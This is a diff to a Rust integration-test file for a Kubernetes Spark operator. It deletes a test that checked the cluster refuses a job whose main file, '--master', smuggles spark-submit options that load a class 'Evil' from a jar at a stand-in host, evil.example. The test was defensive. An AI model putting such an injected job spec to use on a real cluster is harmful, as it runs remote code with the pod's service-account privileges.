@@ -5,35 +5,13 @@ use super::{
     install, install_alone, is_rolled_out, native::python_job, node_address, operator_pods, state_is,
     submission_pods::JOB, until, web_hdfs::WebHdfs,
 };
-use crate::apiserver::kubectl::{kubectl, kubectl_refuses, kubectl_with};
+use crate::apiserver::kubectl::{kubectl, kubectl_with};
 use k8s_openapi::ByteString;
 use serde_json::{Value, json};
 
 /// The path at which each container has the token of its pod's service account.
 const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
 const TENANT: &str = "system:serviceaccount:default:spark";
-
-#[test]
-#[ignore = "needs a node: make test"]
-fn a_main_file_that_is_an_option_of_spark_submit_is_refused() {
-    let _shared = install();
-    let mut job = python_job("takes-over", "submission-job", JOB);
-    job["metadata"]["annotations"] = json!({"sparkoperator.k8s.io/submitter": "spark-submit"});
-    job["spec"]["mainApplicationFile"] = json!("--master");
-    job["spec"]["arguments"] =
-        json!(["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.example/evil.jar"]);
-    let refused = kubectl_refuses(&job, &["apply", "-f", "-"]);
-    assert!(refused.contains("spec.mainApplicationFile: "), "{refused}");
-
-    let schedule = json!({
-        "apiVersion": "sparkoperator.k8s.io/v1beta2",
-        "kind": "ScheduledSparkApplication",
-        "metadata": {"name": "takes-over", "namespace": "default"},
-        "spec": {"schedule": "@every 1h", "template": job["spec"]},
-    });
-    let refused = kubectl_refuses(&schedule, &["apply", "-f", "-"]);
-    assert!(refused.contains("spec.template.mainApplicationFile: "), "{refused}");
-}
 
 #[test]
 #[ignore = "needs a node: make test"]
